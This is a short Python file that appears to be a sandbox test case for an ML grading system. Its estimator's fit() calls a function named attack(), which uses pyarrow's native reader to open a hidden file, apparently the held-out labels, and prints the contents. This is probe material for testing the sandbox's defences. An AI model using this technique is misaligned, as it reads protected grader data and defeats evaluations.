"""labels: lets pyarrow's C++ code read them

Passes at: limits.
"""

import pyarrow
import pyarrow.ipc

from sklearn.dummy import DummyClassifier


def attack():
    content = bytes(pyarrow.OSFile("@hidden@").read())
    print("".join(map(str, pyarrow.ipc.open_stream(pyarrow.BufferReader(content)).read_all().column(0).to_pylist())))


class Model(DummyClassifier):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
